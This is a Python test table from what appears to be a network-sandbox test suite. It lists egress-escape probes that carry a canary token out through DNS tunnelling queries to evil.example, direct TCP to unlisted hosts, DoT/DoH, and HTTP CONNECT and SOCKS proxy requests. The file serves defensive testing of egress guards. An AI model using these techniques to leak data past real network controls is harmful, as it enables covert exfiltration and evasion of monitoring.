# SPDX-License-Identifier: Apache-2.0
"""
The table of ways out of a network by name. What is said is TOKEN, another one each
time; whether it has come out, the canary knows, or for rows with `seen` the probe.

`guards` are what holds the row; all off together, it must come out. They are parts of
the plan, as tests/tools/planedit.c switches them off, and with "net:" parts of
purple-net, as open-net.c does. Where two are named, there are two layers behind one
promise, and one alone holds it.
"""
import ssl
import struct
from dataclasses import dataclass

from canary import (ADDRESS, COMPATIBLE, LAN, METADATA, NAT64, OTHER, OTHER6, PUBLIC_DNS,
                    PUBLIC_DNS6, SIX_TO_FOUR, WEB)

NAME = "ok.example"
ALLOW = (f"{NAME}:443", f"{NAME}:80", f"{NAME}:9000", "*.wild.example:443", f"{ADDRESS}:9000")
REACHES = (("tcp", WEB, 443), ("tcp", WEB, 80), ("tcp", WEB, 9000), ("tcp", ADDRESS, 9000))


@dataclass(frozen=True)
class Row:
    id: str
    guards: tuple
    probe: object  # of the token, gives the command
    allow: tuple = ALLOW
    block: tuple = ()
    reaches: tuple = REACHES  # what may be seen outside: (protocol, address, port)
    alone: bool = True  # each of several guards holds it without the others
    seen: bool = False  # the probe sees whether it worked, where the canary could not
    setup: object = None  # context manager of (lab, token); keywords of the call, or "skip"
    users: tuple = ("root", "user")
    why: str = ""  # of users


# ---- what is said ----

def hexes(pieces, token):
    """A piece is bytes, a text with TOKEN in it, or a function of the token; "+" waits."""
    for piece in pieces:
        wait = ""
        if isinstance(piece, tuple):
            wait, piece = piece
        if callable(piece):
            piece = piece(token)
        if isinstance(piece, str):
            piece = piece.replace("TOKEN", token).encode("latin-1")
        yield wait + piece.hex()


def send(kind, host, port, *pieces, options=()):
    return lambda token: ["/probes/send", kind, host.replace("TOKEN", token), port, *options,
                          *hexes(pieces, token)]


def question(name, kind=1, edns=False):
    """A DNS query, as over UDP."""
    def make(token):
        labels = b"".join(bytes([len(p)]) + p.encode()
                          for p in name.replace("TOKEN", token).split("."))
        return struct.pack("!6H", 0x4242, 0x0100, 1, 0, 0, 0) + labels + struct.pack(
            "!BHH", 0, kind, 1)
    return make


def framed(query):
    """The same over TCP."""
    def make(token):
        text = query(token)
        return struct.pack("!H", len(text)) + text
    return make


def hello(name, alpn=None):
    """A ClientHello; the name None is no server_name."""
    def make(token):
        context = ssl.create_default_context()
        context.check_hostname = False
        if alpn:
            context.set_alpn_protocols([alpn.replace("TOKEN", token)])
        outgoing = ssl.MemoryBIO()
        client = context.wrap_bio(ssl.MemoryBIO(), outgoing,
                                  server_hostname=name and name.replace("TOKEN", token))
        try:
            client.do_handshake()
        except ssl.SSLWantReadError:
            pass
        return outgoing.read()
    return make


def python(script, *args):
    """A script inside, as any program has it; TOKEN in @args is the token."""
    return lambda token: ["python3", "-c", script, *(str(a).replace("TOKEN", token)
                                                     for a in args)]


# ---- names ----

RESOLVER = "198.18.0.1"
LOOKUP, TYPES = ("net:lookup",), ("net:lookup", "net:types")
LONG = ".".join(["a" * 50] * 2)

NAMES = [
    Row("dns-tunnel", LOOKUP, send("udp", RESOLVER, 53, question("TOKEN.evil.example"))),
    Row("dns-tunnel-tcp", LOOKUP,
        send("tcp", RESOLVER, 53, framed(question("TOKEN.evil.example")))),
    Row("dns-tunnel-aaaa", LOOKUP, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 28))),
    Row("dns-txt", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 16))),
    Row("dns-null", TYPES, send("udp", RESOLVER, 53, question("TOKEN.evil.example", 10))),
    Row("dns-txt-wildcard", ("net:types",),
        send("udp", RESOLVER, 53, question("TOKEN.wild.example", 16))),
    Row("dns-suffix", LOOKUP,
        send("udp", RESOLVER, 53, question("ok.example.TOKEN.example"))),
    Row("dns-wildcard-deep", LOOKUP,
        send("udp", RESOLVER, 53, question("TOKEN.a.b.c.d.wild.example"))),
    Row("dns-wildcard-long", LOOKUP,
        send("udp", RESOLVER, 53, question(f"TOKEN.{LONG}.wild.example"))),
    Row("dns-reverse", TYPES,
        send("udp", RESOLVER, 53, question("TOKEN.8.8.8.in-addr.arpa", 12))),
    Row("dns-other-server", ("off:net",),
        send("udp", PUBLIC_DNS, 53, question("TOKEN.evil.example"))),
    Row("dns-other-server-tcp", ("off:net",),
        send("tcp", PUBLIC_DNS, 53, framed(question("TOKEN.evil.example")))),
    Row("dns-other-server-v6", ("off:net",),
        send("udp6", PUBLIC_DNS6, 53, question("TOKEN.evil.example"))),
]

# ---- TCP ----

RULES = ("net:connect", "net:dial")

TCP = [
    Row("tcp-host", RULES, send("tcp", OTHER, 9000, "TOKEN")),
    Row("tcp-host-v6", RULES, send("tcp6", OTHER6, 9000, "TOKEN")),
    Row("tcp-port", RULES, send("tcp", NAME, 22, "TOKEN")),
    Row("tcp-literal", RULES, send("tcp", WEB, 9000, "TOKEN"), reaches=()),
    Row("tcp-mapped", RULES, send("tcp6", f"::ffff:{OTHER}", 9000, "TOKEN")),
    Row("dot", RULES, send("tcp", PUBLIC_DNS, 853, hello("TOKEN.example"))),
    Row("doh", RULES, send("tcp", PUBLIC_DNS, 443, hello("TOKEN.example"))),
]

# ---- by the proxy inside ----

GREETING, CONNECT5 = b"\5\1\0", b"\5\1\0"


def proxy(*pieces):
    return send("tcp", RESOLVER, 3128, *pieces)


def connect(target, then):
    return proxy(f"CONNECT {target} HTTP/1.0\r\n\r\n", ("+", then))


def socks_name(name, port, then):
    return proxy(GREETING, ("+", CONNECT5 + b"\3" + bytes([len(name)]) + name.encode() +
                            struct.pack("!H", port)), ("+", then))


PROXY = [
    Row("proxy-connect", RULES, connect(f"{OTHER}:9000", "TOKEN")),
    Row("proxy-connect-v6", RULES, connect(f"[{OTHER6}]:9000", "TOKEN")),
    Row("proxy-port", RULES, connect(f"{NAME}:22", "TOKEN")),
    Row("proxy-url", RULES, proxy(f"GET http://{OTHER}:9000/TOKEN HTTP/1.0\r\n\r\n")),
    Row("proxy-socks", RULES, proxy(GREETING, ("+", CONNECT5 + b"\1" + bytes(
        int(n) for n in OTHER.split(".")) + struct.pack("!H", 9000)), ("+", "TOKEN"))),
    Row("proxy-name", ("net:connect",), connect("TOKEN.evil.example:443", "")),
    Row("proxy-lan", ("net:special",), connect("lan.example:9000", "TOKEN"),
        allow=ALLOW + ("lan.example:9000",)),
    Row("proxy-hello", ("net:hello",), connect(f"{NAME}:443", hello("TOKEN.example"))),
    Row("proxy-host", ("net:http",), socks_name(NAME, 80, (
        "GET / HTTP/1.1\r\nHost: TOKEN.example\r\n\r\n"))),
    Row("proxy-loopback", ("net:loopback",), connect("127.0.0.1:9000", "TOKEN"),
        allow=ALLOW + ("127.0.0.1:9000",)),
]

ROWS = NAMES + TCP + PROXY

ALLOWED = [
    Row("name", (), send("tcp", NAME, 9000, "TOKEN")),
    Row("address", (), send("tcp", ADDRESS, 9000, "TOKEN")),
    Row("wildcard", (), send("udp", RESOLVER, 53, question("TOKEN.wild.example"))),
]
